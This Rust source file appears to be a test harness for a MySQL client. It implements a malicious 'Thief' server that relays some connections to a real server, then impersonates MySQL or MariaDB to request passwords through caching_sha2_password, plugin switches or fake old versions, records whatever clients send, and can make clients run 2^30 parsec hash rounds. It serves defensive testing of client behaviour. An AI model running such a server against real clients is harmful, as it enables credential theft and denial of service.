//! A MySQL server that is after the client's password: as much of the protocol as a login needs.
//!
//! It passes a number of connections on to a real server first, and then asks.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context as _, Result};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};

/// A key of which nobody has the private half any more.
pub const KEY: &str = "-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA3h/kBh+uhoBrgafp9o05
EdF1TZzb4KX0aTJA4VRFNTyanHnFB+HQO31DB0R6niE+jkXOROj4g+bJdFFYIo1f
mBwsJzJ6oct45UWimn4D9jH1Zwtj5E5XUhp7+SDacL+Asa0WuANNGxF3z2IPw8sz
Ow9ltqp/fx3wcGRTbewKuR0dkEoebFMoulANFQXnMMySPmAwIsOD4ymLYpbLmEB4
wmige9RhuoCyQkSY4PEeMA4DLaOi/4El2VBaLqy2ua38AkC7CYY4lQg8JGCZItEh
6YpsOgcmq2dLgEXRiCJiXwkBCo475NBHJajbrVzqeCJLKRLeOCmKlv+B5L2ONDek
MwIDAQAB
-----END PUBLIC KEY-----
";
/// The length of what is encrypted with it.
pub const ENCRYPTED_BYTES: usize = 256;

const SHA2: &str = "caching_sha2_password";
const ASK_FOR_PASSWORD: [u8; 2] = [1, 4];

/// The way in which it asks.
#[derive(Clone, Copy, Debug)]
pub enum Ask {
    /// Asks for the whole password of `caching_sha2_password`.
    Password,
    /// The same, after it has begun with another plugin.
    PasswordAfterSwitch,
    /// The same, with greeting, question and key in one segment.
    PasswordInOneSegment,
    /// Asks for whatever this plugin sends.
    Plugin(&'static str),
    /// Has the client compute a hash for as long as `parsec` allows: 2^30 rounds.
    Rounds,
    /// Asks for the whole password, as a server so old that the client would log in repeatedly.
    OldVersion,
}

pub struct Thief {
    address: SocketAddr,
    taken: Arc<Mutex<Vec<u8>>>,
    asked: Arc<AtomicU32>,
    accepting: tokio::task::JoinHandle<()>,
}

impl Thief {
    pub async fn start(ask: Ask) -> Result<Self> {
        Self::behind(0, 0, ask).await
    }

    /// Passes the first `honest` connections on to the server on this port.
    pub async fn behind(server_port: u16, honest: u32, ask: Ask) -> Result<Self> {
        let listener = TcpListener::bind(("0.0.0.0", 0)).await?;
        let address = listener.local_addr()?;
        let (taken, asked): (Arc<Mutex<Vec<u8>>>, Arc<AtomicU32>) =
            (Arc::default(), Arc::default());
        let accepting = tokio::spawn({
            let (taken, asked) = (Arc::clone(&taken), Arc::clone(&asked));
            async move {
                let mut number = 0;
                while let Ok((mut client, _)) = listener.accept().await {
                    number += 1;
                    let (taken, asked) = (Arc::clone(&taken), Arc::clone(&asked));
                    tokio::spawn(async move {
                        if number <= honest {
                            let mut server = TcpStream::connect(("127.0.0.1", server_port)).await?;
                            tokio::io::copy_bidirectional(&mut client, &mut server).await?;
                        } else {
                            Asking { client, taken, asked }.serve(ask).await?;
                        }
                        Ok::<_, anyhow::Error>(())
                    });
                }
            }
        });
        Ok(Self { address, taken, asked, accepting })
    }

    pub fn port(&self) -> u16 {
        self.address.port()
    }

    /// Returns everything that clients sent after they were asked for the password.
    pub fn taken(&self) -> Vec<u8> {
        self.taken.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// Returns how often a client was asked.
    pub fn asked(&self) -> u32 {
        self.asked.load(Ordering::Relaxed)
    }
}

impl Drop for Thief {
    fn drop(&mut self) {
        self.accepting.abort();
    }
}

struct Asking {
    client: TcpStream,
    taken: Arc<Mutex<Vec<u8>>>,
    asked: Arc<AtomicU32>,
}

impl Asking {
    async fn serve(mut self, ask: Ask) -> Result<()> {
        let key = [&[1], KEY.as_bytes()].concat();
        match ask {
            Ask::PasswordInOneSegment => {
                let bytes = [
                    packet(0, &greeting("8.4.0", SHA2)),
                    packet(2, &ASK_FOR_PASSWORD),
                    packet(4, &key),
                ];
                self.client.write_all(&bytes.concat()).await?;
                self.asked.fetch_add(1, Ordering::Relaxed);
                self.read().await?;
            }
            Ask::Password | Ask::PasswordAfterSwitch | Ask::OldVersion => {
                let (version, plugin) = match ask {
                    Ask::PasswordAfterSwitch => ("8.4.0", "mysql_native_password"),
                    Ask::OldVersion => ("5.7.1", SHA2),
                    _ => ("8.4.0", SHA2),
                };
                self.client.write_all(&packet(0, &greeting(version, plugin))).await?;
                self.asked.fetch_add(1, Ordering::Relaxed);
                let mut sequence = self.read().await?;
                if let Ask::PasswordAfterSwitch = ask {
                    self.client.write_all(&packet(sequence, &switch_to(SHA2))).await?;
                    sequence = self.read().await?;
                }
                self.client.write_all(&packet(sequence, &ASK_FOR_PASSWORD)).await?;
                sequence = self.take().await?;
                self.client.write_all(&packet(sequence, &key)).await?;
            }
            Ask::Rounds => {
                self.client.write_all(&packet(0, &greeting("11.8.2-MariaDB", SHA2))).await?;
                let sequence = self.read().await?;
                let switch = [b"\xFEparsec\0", [b'n'; 32].as_slice()].concat();
                self.client.write_all(&packet(sequence, &switch)).await?;
                let sequence = self.read().await?;
                self.asked.fetch_add(1, Ordering::Relaxed);
                let salt = [b"P\x14", [b's'; 18].as_slice()].concat();
                self.client.write_all(&packet(sequence, &salt)).await?;
            }
            Ask::Plugin(name) => {
                self.client.write_all(&packet(0, &greeting("8.4.0", SHA2))).await?;
                let sequence = self.read().await?;
                self.asked.fetch_add(1, Ordering::Relaxed);
                self.client.write_all(&packet(sequence, &switch_to(name))).await?;
            }
        }
        loop {
            self.take().await?;
        }
    }

    /// Reads a packet, and returns the number of the answer.
    async fn read(&mut self) -> Result<u8> {
        self.read_into(false).await
    }

    /// Does the same with a packet after the question.
    async fn take(&mut self) -> Result<u8> {
        self.read_into(true).await
    }

    async fn read_into(&mut self, keep: bool) -> Result<u8> {
        let mut header = [0; 4];
        self.client.read_exact(&mut header).await?;
        let [a, b, c, sequence] = header;
        let mut payload = vec![0; usize::from(a) | usize::from(b) << 8 | usize::from(c) << 16];
        self.client.read_exact(&mut payload).await.context("half a packet")?;
        if keep {
            self.taken.lock().unwrap_or_else(PoisonError::into_inner).extend(payload);
        }
        Ok(sequence.wrapping_add(1))
    }
}

fn packet(sequence: u8, payload: &[u8]) -> Vec<u8> {
    let [a, b, c, ..] = payload.len().to_le_bytes();
    [&[a, b, c, sequence], payload].concat()
}

fn switch_to(plugin: &str) -> Vec<u8> {
    [b"\xFE", plugin.as_bytes(), b"\0abcdefghijklmnopqrst\0"].concat()
}

fn greeting(version: &str, plugin: &str) -> Vec<u8> {
    const CAPABILITIES: u32 = 0x1 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x0008_0000;
    let [a, b, c, d] = CAPABILITIES.to_le_bytes();
    [
        b"\x0A",
        version.as_bytes(),
        b"\0\x4D\0\0\0",
        b"12345678\0",
        &[a, b, 255, 2, 0, c, d, 21],
        &[0; 10],
        b"123456789012\0",
        plugin.as_bytes(),
        b"\0",
    ]
    .concat()
}
